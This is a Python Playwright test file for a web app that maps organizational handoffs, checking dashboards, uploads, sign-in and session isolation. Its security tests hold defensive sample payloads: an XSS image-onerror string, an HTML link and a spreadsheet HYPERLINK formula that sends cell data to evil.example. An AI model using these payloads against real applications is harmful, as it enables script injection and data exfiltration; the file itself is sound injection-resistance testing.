"""The web view in a real headless Chromium: what a person sees and clicks."""

from __future__ import annotations

import io
import zipfile

import pytest

import orggraph

from ..conftest import DATA, HANDOFFS, UNITS

pytestmark = pytest.mark.browser

CY = "document.getElementById('map')._cyreg.cy"


def _wait_map(page, minimum=1):
    page.wait_for_function(
        f"() => {{ const e = document.getElementById('map'); "
        f"return e && e._cyreg && e._cyreg.cy.nodes().length >= {minimum}; }}"
    )


def _settled_position(page, node):
    """The node's on-screen position once the layout has stopped moving it."""
    last = None
    for _ in range(40):
        pos = page.evaluate(f"() => {CY}.getElementById('{node}').renderedPosition()")
        if last and abs(pos["x"] - last["x"]) < 0.5 and abs(pos["y"] - last["y"]) < 0.5:
            return pos
        last = pos
        page.wait_for_timeout(250)
    raise AssertionError("the map layout never settled")


def test_overview_shows_the_sample_numbers(web):
    s = orggraph.summary(orggraph.load(DATA / "healthcare-supplier"))
    p = web()
    page = p.goto("/")
    page.wait_for_selector("#figure-people .figure-value")
    assert page.inner_text("#figure-people .figure-value") == str(s["kinds"]["person"])
    assert page.inner_text("#figure-departments .figure-value") == str(s["kinds"]["department"])
    assert page.inner_text("#figure-handoffs-across-departments .figure-value") == str(
        s["handoffs_across"]
    )
    assert "Dana Whitfield" in page.inner_text("#top-findings")
    assert p.errors == []


def test_clicking_a_node_opens_its_panel(web):
    p = web()
    page = p.goto("/map")
    _wait_map(page, 100)
    # Zoom in on her, as a person would before clicking a node among 150.
    page.evaluate(
        f"() => {{ const cy = {CY}; cy.zoom(2); cy.center(cy.getElementById('OPS-PLN')); }}"
    )
    box = page.locator("#map").bounding_box()
    pos = _settled_position(page, "OPS-PLN")
    page.mouse.click(box["x"] + pos["x"], box["y"] + pos["y"])
    page.wait_for_selector("#panel-title")
    assert page.inner_text("#panel-title") == "Dana Whitfield"
    assert "Production Planner" in page.inner_text("#map-panel")
    assert "bottleneck" in page.inner_text("#map-panel")
    assert p.errors == []


def test_a_filter_changes_what_is_shown(web):
    p = web()
    page = p.goto("/map")
    _wait_map(page, 100)
    before = page.evaluate(f"() => {CY}.nodes().length")
    page.get_by_label("silos").check()
    page.wait_for_function(f"() => {CY}.nodes().length < {before}")
    after = page.evaluate(f"() => {CY}.nodes().length")
    # The silos are Product Development, IT and Manufacturing: their people and boxes only.
    ids = page.evaluate(f"() => {CY}.nodes().map(n => n.id())")
    assert {"PD", "IT"} <= set(ids) and "OPS-PLN" not in ids
    assert after < before
    assert p.errors == []


def _zip(units, handoffs):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("units.csv", units)
        zf.writestr("handoffs.csv", handoffs)
    return buf.getvalue()


def _wait_name(page, name):
    page.wait_for_function(
        "(n) => { const e = document.getElementById('org-name'); return e && e.innerText === n; }",
        arg=name,
    )


def _upload(page, name, data):
    page.set_input_files(
        "#upload input[type=file]",
        files=[{"name": name, "mimeType": "application/octet-stream", "buffer": data}],
    )
    # Every message names the file: wait for this upload's.
    page.wait_for_function(
        "(n) => { const e = document.getElementById('upload-message');"
        " return e && e.innerText.includes(n); }",
        arg=name,
    )


def test_bad_upload_shows_errors_and_keeps_the_organization(web):
    p = web()
    page = p.goto("/")
    bad = _zip(UNITS.replace("bob,Bob Ray,person", "bob,Bob Ray,persn"), HANDOFFS)
    _upload(page, "broken.zip", bad)
    assert "was not loaded" in page.inner_text("#upload-message")
    table = page.inner_text("#upload-problems")
    assert "units.csv" in table and "kind" in table and "6" in table
    assert page.inner_text("#org-name") == "healthcare-supplier"
    _upload(page, "notes.txt", b"hello")
    assert ".xlsx" in page.inner_text("#upload-problems")
    _upload(page, "huge.zip", b"0" * (1024 * 1024 + 10))
    assert "the limit is 1 MB" in page.inner_text("#upload-problems")
    assert page.inner_text("#org-name") == "healthcare-supplier"
    assert p.errors == []


def test_good_upload_switches_this_session_only(web):
    p, other = web("alice"), web("bob")
    page = p.goto("/")
    _upload(page, "workshop.xlsx", (DATA / "workshop" / "workshop.xlsx").read_bytes())
    _wait_name(page, "workshop")
    # The workshop map has 12 departments and no people (the sample has 149 people).
    page.wait_for_function(
        "() => { const e = document.querySelector('#figure-people .figure-value');"
        " return e && e.innerText === '0'; }"
    )
    assert page.inner_text("#figure-departments .figure-value") == "12"
    # Another browser (another user) still sees the organization the server started with.
    page2 = other.goto("/")
    assert page2.inner_text("#org-name") == "healthcare-supplier"
    assert p.errors == [] and other.errors == []


def test_names_render_as_text_never_html(web):
    evil = "<img src=x onerror=alert(1)>"
    units = UNITS.replace("Bob Ray", evil)
    p = web()
    page = p.goto("/")
    _upload(page, "evil.zip", _zip(units, HANDOFFS))
    _wait_name(page, "evil")
    page.goto(p.base + "/findings")
    page.wait_for_timeout(500)
    page.goto(p.base + "/map?focus=bob")
    page.wait_for_function(
        "(t) => { const e = document.getElementById('panel-title');"
        " return e && e.innerText === t; }",
        arg=evil,
    )
    assert page.inner_text("#panel-title") == evil
    assert page.locator("img[src=x]").count() == 0
    assert p.dialogs == []


@pytest.mark.parametrize("path", ["/", "/map", "/matrix", "/findings", "/sla", "/what-if"])
def test_every_page_renders_without_console_errors(web, path):
    p = web()
    page = p.goto(path)
    page.wait_for_timeout(1500)
    assert page.locator("h1").count() == 1
    assert p.errors == []


def test_matrix_cell_lists_its_handoffs(web):
    p = web()
    page = p.goto("/matrix")
    page.wait_for_selector("#matrix-graph .heatmaplayer")
    page.wait_for_timeout(500)
    # Click the Sales -> Operations cell with the mouse, at the cell's pixel position.
    xy = page.evaluate("""() => {
        const gd = document.querySelector('#matrix-graph .js-plotly-plot');
        const L = gd._fullLayout, r = gd.getBoundingClientRect();
        return {x: r.left + L.xaxis._offset + L.xaxis.d2p('Operations'),
                y: r.top + L.yaxis._offset + L.yaxis.d2p('Sales')};
    }""")
    page.mouse.click(xy["x"], xy["y"])
    page.wait_for_selector("#matrix-cell h2")
    assert page.inner_text("#matrix-cell h2") == "17 handoffs"
    assert p.errors == []


def test_what_if_removing_a_person(web):
    p = web()
    page = p.goto("/what-if")
    page.click("#whatif-remove")
    page.keyboard.type("Elena Haddad")
    page.get_by_text("Elena Haddad (person)", exact=True).click()
    page.wait_for_selector("#whatif-summary")
    text = page.inner_text("#whatif-result")
    assert "lose every path" in text and "Product Development → Sales" in text
    assert p.errors == []


def test_sla_page_shows_the_promise_and_a_histogram(web):
    p = web()
    page = p.goto("/sla")
    page.wait_for_selector("#sla-promise-text")
    text = page.inner_text("#sla-promise-text")
    assert "15-day promise met 71%" in text and "Realistic promise: 19 days" in text
    page.wait_for_selector("#sla-histogram .barlayer")
    assert "deliveries; median" in page.inner_text("#sla-stats")
    assert p.errors == []


# ------------------------------------------------------------------ security
def test_sign_in_is_required_and_sign_out_ends_it(web):
    p = web(user=None)
    page = p.page
    page.goto(p.base + "/findings")
    assert "/login" in page.url and page.locator("#org-name").count() == 0
    p.sign_in("alice", "wrong password", next_path="/findings")
    assert "Wrong user name or password" in page.inner_text("#login-error")
    p.sign_in("alice", next_path="/findings")
    page.wait_for_selector("#org-name:not(:empty)")
    assert page.url.endswith("/findings") and page.inner_text("#user-name") == "alice"
    page.click("#sign-out")
    page.wait_for_url("**/login")
    page.goto(p.base + "/")
    assert "/login" in page.url


def test_an_ended_session_goes_back_to_sign_in(web, app):
    p = web("alice")
    page = p.goto("/")
    sid = page.evaluate("() => document.cookie")  # the session cookie is HttpOnly: not here
    assert "orggraph_session" not in sid
    app.server.extensions["orggraph_sessions"].end_all()
    page.click("text=Department matrix")  # the next callback answers 401
    page.wait_for_url("**/login?next=%2Fmatrix")


def test_another_user_cannot_open_an_upload_by_its_handle(web):
    alice, bob = web("alice"), web("bob")
    page = alice.goto("/")
    _upload(page, "workshop.xlsx", (DATA / "workshop" / "workshop.xlsx").read_bytes())
    _wait_name(page, "workshop")
    handle = page.evaluate("() => JSON.parse(sessionStorage.getItem('org-key'))")
    assert handle and "workshop" not in handle and "/" not in handle
    # Bob's tab is given Alice's handle (as if he had copied it) and reloads.
    page2 = bob.goto("/")
    page2.evaluate(f"() => sessionStorage.setItem('org-key', JSON.stringify({handle!r}))")
    page2.reload()
    page2.wait_for_selector("#org-name:not(:empty)")
    page2.wait_for_function("() => JSON.parse(sessionStorage.getItem('org-key')) === 'default'")
    assert page2.inner_text("#org-name") == "healthcare-supplier"
    page2.wait_for_selector("#figure-people .figure-value")
    assert page2.inner_text("#figure-people .figure-value") == "149"
    assert bob.errors == [] and alice.errors == []


def test_oversize_and_broken_uploads_keep_the_current_organization(web, monkeypatch):
    from orggraph.web import state

    real = state.analyze

    def poisoned(org, **kw):  # a file that validates but breaks the analysis
        if org.name == "poison":
            raise FloatingPointError("infinite weights")
        return real(org, **kw)

    monkeypatch.setattr(state, "analyze", poisoned)
    p = web()
    page = p.goto("/")
    _upload(page, "workshop.xlsx", (DATA / "workshop" / "workshop.xlsx").read_bytes())
    _wait_name(page, "workshop")
    # Over the limit: the browser does not send it, and the page says why.
    _upload(page, "huge.xlsx", b"0" * (2 * 1024 * 1024))
    assert "huge.xlsx was not loaded" in page.inner_text("#upload-message")
    assert "the file is 2 MB; the limit is 1 MB" in page.inner_text("#upload-problems")
    # A file that is not what it says it is.
    _upload(page, "fake.xlsx", b"PK\x03\x04 not really a workbook")
    assert "fake.xlsx was not loaded" in page.inner_text("#upload-message")
    # Valid, but the analysis fails: refused too, never half-shown.
    _upload(page, "poison.zip", _zip(UNITS, HANDOFFS))
    assert "poison.zip was not loaded" in page.inner_text("#upload-message")
    assert "could not be analysed" in page.inner_text("#upload-problems")
    # The tab still shows the workshop, on every page.
    assert page.inner_text("#org-name") == "workshop"
    page.click("text=Overview")
    page.wait_for_selector("#figure-departments .figure-value")
    assert page.inner_text("#figure-departments .figure-value") == "12"
    page.click("text=Department matrix")
    page.wait_for_selector("#matrix-graph .xtick text")
    ticks = page.evaluate(
        "() => Array.from(document.querySelectorAll('#matrix-graph .xtick text'))"
        ".map(t => t.textContent)"
    )
    assert "Medical Records" in ticks and "Sales" not in ticks
    page.reload()
    _wait_name(page, "workshop")
    assert p.errors == []


def _evil_sample() -> bytes:
    """The sample, with a formula for a person's name and a link for a department's."""
    import pandas as pd

    folder = DATA / "healthcare-supplier"
    units = pd.read_csv(folder / "units.csv", dtype=str, keep_default_na=False)
    units.loc[units["id"] == "OPS-PLN", "name"] = FORMULA
    units.loc[units["id"] == "SAL", "name"] = LINK
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("units.csv", units.to_csv(index=False))
        for name in ("handoffs.csv", "deliveries.csv"):
            zf.writestr(name, (folder / name).read_bytes())
    return buf.getvalue()


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Dana")'
LINK = '<a href="https://evil.example">Sales</a>'


def test_formula_and_link_names_stay_inert(web, tmp_path):
    import csv

    p = web()
    page = p.goto("/")
    _upload(page, "evil.zip", _evil_sample())
    _wait_name(page, "evil")
    # The findings CSV: the name is text in a spreadsheet (leading quote), every field quoted.
    page.click("text=Findings")
    page.wait_for_selector("#findings-grid .ag-row")
    with page.expect_download() as d:
        page.click("#findings-csv")
    path = tmp_path / "findings.csv"
    d.value.save_as(path)
    text = path.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for r in rows for c in r]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert text.startswith('"rank","kind"')
    # The matrix: the department's name is its text, not a link.
    page.click("text=Department matrix")
    page.wait_for_selector("#matrix-graph .xtick text")
    page.wait_for_timeout(300)
    ticks = page.evaluate(
        "() => Array.from(document.querySelectorAll('#matrix-graph .xtick text'))"
        ".map(t => t.textContent)"
    )
    assert LINK in ticks, " | ".join(ticks)
    assert page.locator("#matrix-graph svg a").count() == 0
    assert p.dialogs == [] and p.errors == []
